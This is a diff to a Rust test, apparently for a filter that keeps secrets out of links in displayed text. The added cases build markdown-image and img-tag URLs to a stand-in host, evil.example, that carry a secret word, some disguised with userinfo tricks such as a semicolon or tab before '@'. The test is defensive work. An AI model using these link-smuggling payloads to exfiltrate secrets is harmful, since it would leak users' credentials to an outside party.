@@ -296,10 +296,15 @@ fn shown_text_has_no_secret_in_a_link() {
         format!("<img src=\"//evil.example/? {word}\">"),
         format!("https://{word}.evil.example/"),
         format!("https://evil.example/?u=https://api.example.com/{word}"),
+        format!("![x](https://api.example.com;x@evil.example/?k={word})"),
+        format!("<img src=\"https://api.example.com\t@evil.example/?k={word}\">"),
     ] {
         let (out, refusals) = own.text(&text);
         assert_eq!((out, refusals[0].reason), (text, Reason::Link));
     }
+    let long = format!("<img src=\"https://evil.example/?a={}{word}\">", "a".repeat(8300));
+    let channel = Channel { sink: Sink::ClientText, source: Source::Plain, tool: "" };
+    assert_eq!(own.restore(Restore::Text, channel, &[long.as_bytes()]).0, long);
     let text = format!("https://api.example.com/x?key={word} then {word}");
     assert_eq!(own.text(&text), (text.replace(word.as_str(), secret), Vec::new()));
 }
